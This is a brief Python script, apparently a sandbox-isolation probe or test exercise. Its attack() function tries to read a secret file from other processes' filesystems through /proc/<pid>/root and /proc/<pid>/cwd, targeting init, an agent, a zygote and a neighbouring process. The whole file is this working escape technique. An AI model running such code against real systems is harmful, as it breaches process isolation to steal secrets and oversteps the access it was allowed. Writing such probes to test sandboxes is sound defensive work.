from target import AGENT, NEIGHBOUR, SECRET, ZYGOTE


def attack():
    for pid in (1, AGENT, ZYGOTE, NEIGHBOUR):
        for way in ("root", "cwd"):
            try:
                return open(f"/proc/{pid}/{way}{SECRET}").read()
            except OSError:
                pass
    raise PermissionError("no way in")
